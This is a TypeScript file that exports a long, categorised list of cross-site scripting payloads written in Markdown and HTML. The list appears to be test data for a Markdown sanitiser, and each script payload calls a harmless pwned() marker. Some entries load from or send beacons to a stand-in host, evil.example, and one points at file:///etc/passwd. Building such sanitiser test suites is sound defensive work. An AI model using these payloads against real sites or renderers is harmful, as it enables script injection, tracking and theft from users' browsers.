/**
 * Markdown that tries to make a reader's browser run script, load from elsewhere, submit, restyle the page or take
 * the place of its globals. Every working script would call `pwned()`.
 */
export const XSS_PAYLOADS: readonly string[] = [
  ...plainScripts(),
  ...eventHandlers(),
  ...addresses(),
  ...loadingElements(),
  ...formsAndMeta(),
  ...otherNamespaces(),
  ...rawTextTricks(),
  ...tagSoup(),
  ...markdownTricks(),
  ...clobbering(),
  ...styling(),
  ...formsBesidesMarkdown(),
];

function plainScripts(): string[] {
  return [
    "<script>pwned()</script>",
    "<SCRIPT>pwned()</SCRIPT>",
    "<ScRiPt type=module>pwned()</sCrIpT>",
    '<script src="//evil.example/x.js"></script>',
    "<script/src=data:text/javascript,pwned()></script>",
    "<script\n>pwned()</script\n>",
    "<script/x>pwned()</script>",
    "<script\u000cdefer>pwned()</script>",
    "text <script>pwned()</script> text",
    "- <script>pwned()</script>\n- b",
    "> <script>pwned()</script>",
    "| a |\n|---|\n| <script>pwned()</script> |",
    "# <script>pwned()</script> heading",
    "[^1]\n\n[^1]: <script>pwned()</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script>/* </script><script>pwned()</script> */",
    "<script><!--\npwned()//--></script>",
    "<script type='text/plain'>x</script><script>pwned()",
    "<p><script>pwned()</script></p>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwned()</x:script>",
  ];
}

function eventHandlers(): string[] {
  const handlers = [
    "onclick",
    "onload",
    "onerror",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onbeforematch",
  ];
  return [
    ...handlers.map((handler) => `<b ${handler}="pwned()" tabindex=0 autofocus>x</b>`),
    ...handlers.map((handler) => `<details open ${handler.toUpperCase()}=pwned()><summary>s</summary></details>`),
    "<img src=x onerror=pwned()>",
    "<img/src=x/onerror=pwned()>",
    '<img src="x" alt="a"onerror="pwned()">',
    "<img src=`x`onerror=pwned()>",
    "<img src='x'\u0000onerror=pwned()>",
    "<img\tsrc=x\tonerror\t=\tpwned()>",
    '<img """><b onclick="pwned()">">',
    "<image src=x onerror=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<body onload=pwned()>",
    "<html onmouseover=pwned()>text",
    "<marquee onstart=pwned()>x</marquee>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<a href='#' on click=pwned() onclick=pwned()>x</a>",
    "<kbd &#111;nclick=pwned()>x</kbd>",
    "<abbr title='a' onpointerenter='pwned()'>x</abbr>",
    "<time datetime='2025' onwheel=pwned()>x</time>",
    "<ruby onclick=pwned()>a<rt oncopy=pwned()>b</rt></ruby>",
    "<div popover id=p onbeforetoggle=pwned()>x</div><button popovertarget=p>y</button>",
  ];
}

function addresses(): string[] {
  const schemes = [
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " javascript:pwned()",
    "\u0001javascript:pwned()",
    "java\tscript:pwned()",
    "java&#10;script:pwned()",
    "java&Tab;script:pwned()",
    "javascript&colon;pwned()",
    "&#106;avascript:pwned()",
    "&#x6A&#x61vascript:pwned()",
    "&#0000106&#0000097vascript:pwned()",
    "javascript://%0apwned()",
    "javascript:/*--></title></style></textarea></script>*/pwned()",
    "vbscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "view-source:javascript:pwned()",
    "feed:javascript:pwned()",
    "ｊavascript:pwned()",
    "javascript\u200b:pwned()",
  ];
  return [
    ...schemes.map((scheme) => `[click](<${scheme.replace(/[<>]/g, "")}>)`),
    ...schemes.map((scheme) => `<a href="${scheme}">click</a>`),
    ...schemes.slice(0, 12).map((scheme) => `<${scheme.trim()}>`),
    ...schemes.slice(0, 16).map((scheme) => `<img src="${scheme}" alt="x">`),
    ...schemes.slice(0, 8).map((scheme) => `![x](<${scheme}>)`),
    "[a]: javascript:pwned()\n\n[a]",
    "![a][b]\n\n[b]: data:image/svg+xml,<svg/onload=pwned()> 'title'",
    "<a href=javascript:pwned()//https://fine.example>x</a>",
    "<a href='https://fine.example' href='javascript:pwned()'>x</a>",
    "<a href='javascript:pwned()' href='https://fine.example'>x</a>",
    "<a xlink:href='javascript:pwned()'>x</a>",
    "<a href='x' ping='https://evil.example'>x</a>",
    "<a href='x' target='_blank' rel='opener'>x</a>",
    "<a href='x' download='a.exe'>x</a>",
    "<q cite='javascript:pwned()'>x</q>",
    "<blockquote cite='javascript:pwned()'>x</blockquote>",
    "<del cite='data:text/html,x'>x</del>",
    "<img srcset='https://evil.example/a 1x, javascript:pwned() 2x' alt=a>",
    "<img src='images/a.png' srcset='//evil.example/b 1x' sizes='1px' alt=a>",
    "<img longdesc='javascript:pwned()' lowsrc='javascript:pwned()' dynsrc='javascript:pwned()' src=a.png>",
    "<picture><source srcset='https://evil.example/x'><img src=a.png></picture>",
    "![tracker](https://evil.example/pixel.gif)",
    "![tracker](//evil.example/pixel.gif)",
    "![tracker](\\\\evil.example/pixel.gif)",
    "![up](../../../../etc/passwd.png)",
    "![up](%2e%2e/%2e%2e/secret.png)",
    '![q](images/a"onerror="pwned().png)',
    '![a" onerror="pwned()](images/a.png "t\\" onload=\\"pwned()")',
    '[q](https://fine.example/"onclick="pwned())',
    '[x](/posts/a"><script>pwned()</script>)',
    "https://fine.example/<script>pwned()</script>",
    'www.fine.example/"onmouseover=pwned()//',
    'pwned"onclick=x@fine.example',
    "<mailto:a@b.example?subject=<script>pwned()</script>>",
  ];
}

function loadingElements(): string[] {
  return [
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<iframe src=//evil.example>",
    "<object data=javascript:pwned()></object>",
    "<object type=text/html data='data:text/html,<script>pwned()</script>'><b onclick=pwned()>x</b></object>",
    "<embed src=javascript:pwned()>",
    "<applet code=pwned archive=//evil.example></applet>",
    "<frameset onload=pwned()><frame src=javascript:pwned()></frameset>",
    "<portal src=//evil.example></portal>",
    "<video src=//evil.example/x poster=javascript:pwned() autoplay></video>",
    "<audio autoplay src=//evil.example/x></audio>",
    "<track src=//evil.example default>",
    "<bgsound src=javascript:pwned()>",
    "<layer src=//evil.example></layer>",
    "<table background='javascript:pwned()'><tr><td background='//evil.example'>x</td></tr></table>",
    "<body background=//evil.example>",
    "<custom-element is=pwned onclick=pwned()>x</custom-element>",
    "<b is='pwned-element'>x</b>",
    "<fencedframe></fencedframe><webview src=//evil.example></webview>",
  ];
}

function formsAndMeta(): string[] {
  return [
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<form action=javascript:pwned()><input type=submit></form>",
    "<form id=f></form><button form=f formaction=javascript:pwned()>x</button>",
    "<input type=image src=//evil.example formaction=javascript:pwned()>",
    "<input type=checkbox name=csrf value=1 checked form=f>",
    "<isindex action=javascript:pwned() type=submit>",
    "<textarea autofocus onfocus=pwned()></textarea><select><option>x</select>",
    "<keygen autofocus onfocus=pwned()>",
    "<dialog open onclose=pwned()><form method=dialog><button>x</button></form></dialog>",
    "<label for=x onclick=pwned()>x</label><output onclick=pwned()>y</output>",
    "<!doctype html><html><head><base href=//evil.example></head><body onload=pwned()>",
  ];
}

function otherNamespaces(): string[] {
  return [
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><script href=data:,pwned() /></svg>",
    "<svg><a xlink:href=javascript:pwned()><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:pwned() /><a id=x>y</a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned() />#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:pwned()></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
    "<svg><desc><b onclick=pwned()>x</b></desc></svg>",
    "<svg><title><b onclick=pwned()>x</b></title></svg>",
    '<svg><p><style><g title="</style><img src onerror=pwned()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
    "<math><mi xlink:href='javascript:pwned()'>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwned()>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>pwned()</script></annotation-xml></math>",
    "<math><mtext></p><script>pwned()</script></mtext></math>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">',
    "<svg><![CDATA[</svg><img src=x onerror=pwned()>]]></svg>",
    "<math><![CDATA[><img src=x onerror=pwned()>]]></math>",
    "<p><svg><desc></p><script>pwned()</script>",
    "<svg:script>pwned()</svg:script><html:script>pwned()</html:script>",
  ];
}

function rawTextTricks(): string[] {
  const holders = [
    "noscript",
    "template",
    "textarea",
    "title",
    "style",
    "xmp",
    "noembed",
    "noframes",
    "iframe",
    "plaintext",
  ];
  return [
    ...holders.map((holder) => `<${holder}><p title="</${holder}><img src=x onerror=pwned()>"></p>`),
    ...holders.map((holder) => `<${holder}><script>pwned()</script></${holder}>`),
    "<!-- --!><img src=x onerror=pwned()> -->",
    "<!--><img src=x onerror=pwned()>-->",
    "<!---><script>pwned()</script>-->",
    '<!-- <img title="--><script>pwned()</script>"> -->',
    "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
    "<![CDATA[<script>pwned()</script>]]>",
    "<![CDATA[ ><img src=x onerror=pwned()> ]]>",
    "<?xml version='1.0'?><script>pwned()</script>",
    "<? ><img src=x onerror=pwned()> ?>",
    "</ ><img src=x onerror=pwned()>",
    "<!DOCTYPE x [<!ENTITY e '<script>pwned()</script>'>]>&e;",
    "<template><template><script>pwned()</script></template></template>",
    "<template shadowrootmode=open><script>pwned()</script></template>",
    "<select><template><img src=x onerror=pwned()></template></select>",
    "<listing>&lt;img src=x onerror=pwned()&gt;</listing>",
  ];
}

function tagSoup(): string[] {
  return [
    "<<script>pwned()//<</script>",
    "<img src=x onerror=pwned()//",
    "<b <script>pwned()</script>0",
    '<a href="x""onclick="pwned()">x</a>',
    "<a title='\"><img src=x onerror=pwned()>'>x</a>",
    '<a title="&quot;&gt;&lt;img src=x onerror=pwned()&gt;">x</a>',
    "<table><tr><td></table><script>pwned()</script>",
    "<table><script>pwned()</script><tr><td onclick=pwned()>x",
    "<p><table><a href=javascript:pwned()>x</a></table>",
    "<a href=/a><svg><a href=javascript:pwned()>x</a></svg></a>",
    "<b><i><b><i></b></i><img src=x onerror=pwned()></b>",
    "<ul><li><table><li><script>pwned()</script></table></li></ul>",
    "<details><summary><a href='javascript:pwned()'>x</a></summary></details>",
    "<div\u00a0onclick=pwned()>x</div>",
    "<div/onclick=pwned()/>x",
    "<div \u2028onclick=pwned()>x</div>",
    "\ufeff<script>pwned()</script>",
    "%3Cscript%3Epwned()%3C/script%3E",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "＜script＞pwned()＜/script＞",
    "\u00bcscript\u00bepwned()\u00bc/script\u00be",
    "<s\u0000cript>pwned()</s\u0000cript>",
    "<scrıpt>pwned()</scrıpt>",
    "\u00000\u0000<b onclick=pwned()>\u00001\u0000</b>",
    "&#0;0&#0; ![a](images/a.png)",
  ];
}

function markdownTricks(): string[] {
  return [
    "`<script>pwned()</script>`",
    "    <script>pwned()</script>",
    "```html\n<script>pwned()</script>\n```",
    '```"onclick="pwned()\nx\n```',
    "```<script>pwned()</script>\nx\n```",
    "```constructor\nx\n```",
    "```__proto__\nx\n```",
    "~~~js onload=pwned()\nalert`1`\n~~~",
    "```ts\nconst a = '</code></pre><script>pwned()</script>';\n```",
    '[a](b "c\\"><script>pwned()</script>")',
    "[<img src=x onerror=pwned()>](javascript:pwned())",
    "[![x](javascript:pwned())](javascript:pwned())",
    '[](javascript:pwned "x")',
    "[a](javascript&#58;pwned&#40;&#41;)",
    "[a](javascript\\:pwned())",
    "[a](&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:pwned\\(\\))",
    "[^<script>pwned()</script>]\n\n[^<script>pwned()</script>]: x",
    '[^"onclick=pwned()]\n\n[^"onclick=pwned()]: x',
    "[^javascript:pwned()]\n\n[^javascript:pwned()]: x",
    "- [x] <input type=checkbox onclick=pwned()>",
    "| <b onclick=pwned()>h</b> |\n|:-:|\n| [x](javascript:pwned()) |",
    "# <a name=x href=javascript:pwned()>heading</a>",
    "Setext <img src=x onerror=pwned()>\n===",
    "*<b onclick=pwned()>x*</b>",
    "<b>\n\n*x* <script>\n\npwned()\n\n</script>\n\n</b>",
    "a<br onclick=pwned()>b<hr onload=pwned()>c<wbr onclick=pwned()>d",
  ];
}

function clobbering(): string[] {
  const names = [
    "cookie",
    "body",
    "forms",
    "location",
    "getElementById",
    "currentScript",
    "__reactRouterContext",
    "createElement",
  ];
  return [
    ...names.map((name) => `<a id=${name} name=${name} href=https://evil.example>x</a>`),
    ...names.slice(0, 4).map((name) => `<img name=${name} id=${name} src=a.png alt=x>`),
    "<a id=config><a id=config name=url href=https://evil.example>x</a>",
    "<form id=document><input name=cookie></form>",
    "<h2 id=process>x</h2>",
    "## process\n\n## module\n\n## exports\n\n## require\n\n## define\n\n## global",
    "## Constructor\n\n## __proto__\n\n## toString\n\n## subscribe",
    "<h1 name=attributes id=attributes>x</h1>",
    "<p id='user-content-fn-1'>x</p>\n\n[^1]\n\n[^1]: y",
  ];
}

function styling(): string[] {
  return [
    "<b style='position:fixed;inset:0;background:url(//evil.example)'>x</b>",
    "<div style=behavior:url(x.htc)>x</div>",
    "<style>@import '//evil.example'; *{display:none}</style>",
    "<p class='subscribe-button admin'>x</p>",
    "<pre class=code style=width:9999px><code class='language-js\" onclick=pwned()'>x</code></pre>",
    "<font color=red face='x' size=7>x</font><center>y</center>",
    "<td align='expression(pwned())'>x</td>",
    "<b tabindex=1 accesskey=x contenteditable draggable=true hidden inert>x</b>",
    "<b role=alert aria-live=assertive data-action=pwned slot=x part=y nonce=z>x</b>",
    "<a class='data-footnote-backref evil' data-footnote-ref href=//evil.example>x</a>",
  ];
}

/** Formulas, callouts, abbreviations, definitions, marked lines and groups of pictures. */
function formsBesidesMarkdown(): string[] {
  return [
    ...["href{javascript:pwned()}{x}", "url{javascript:pwned()}", "class{subscribe-button}{x}", "id{main}{x}"].map(
      (command) => `$\\${command}$`,
    ),
    ...["style{position:fixed}{x}", "data{action=x}{y}", "includegraphics{https://evil.example/a.png}"].map(
      (command) => `$$\\html${command}$$ $$\\${command}$$`,
    ),
    "$</annotation></semantics></math><script>pwned()</script>$",
    "$\\text{</mtext></math><img src=x onerror=pwned()>}$",
    "$$\\text{<style>@import '//evil.example'</style>}$$",
    "$$\n<script>pwned()</script>\n$$",
    "```math\n</code></pre><script>pwned()</script>\n```",
    '```math" onload=pwned()\nx\n```',
    "<code class=language-math>\\href{javascript:pwned()}{x}</code>",
    "<math><mtext></mtext><annotation-xml encoding=text/html><img src=x onerror=pwned()></annotation-xml></math>",
    "$\\unicode{60}\\char60 script\\char62$ $\\def\\x{\\href{javascript:pwned()}}\\x{y}$",
    "$\\color{red;background:url(//evil.example)}{x}$ $\\rule{99999em}{99999em}$",
    "> [!note] <script>pwned()</script> <b onclick=pwned()>x</b>\n> x",
    "> [!note onclick=pwned()]\n> x",
    '> [!"><script>pwned()</script>]\n> x',
    "> [!tip]- <img src=x onerror=pwned()>\n> [x](javascript:pwned())",
    'XSS\n\n*[XSS]: "><script>pwned()</script>',
    "XSS\n\n*[XSS]: <img src=x onerror=pwned()>",
    '<script>\n\n*[<script>]: "onmouseover=pwned() x="',
    "XSS <b title=XSS>XSS</b>\n\n*[XSS]: ' onmouseover=pwned() '",
    "Term <script>pwned()</script>\n: [x](javascript:pwned()) <b onclick=pwned()>y</b>",
    "x^<script>pwned()</script>^ x^[a](javascript:pwned())^ x^<b/onclick=pwned()>^",
    "```js {1}\n</code></pre><script>pwned()</script>\n```",
    '```js {1" onload="pwned()}\nx // [!code ++]\n```',
    "```html\n<script>pwned()</script> <!-- [!code ++] -->\n```",
    "<pre><code data-lines='1\" onclick=pwned()'>x</code></pre>",
    '![a](a.png "<script>pwned()</script>")\n![b](b.png "\\" onload=pwned()")',
    "![a](a.png) [![b](b.png)](javascript:pwned())",
  ];
}
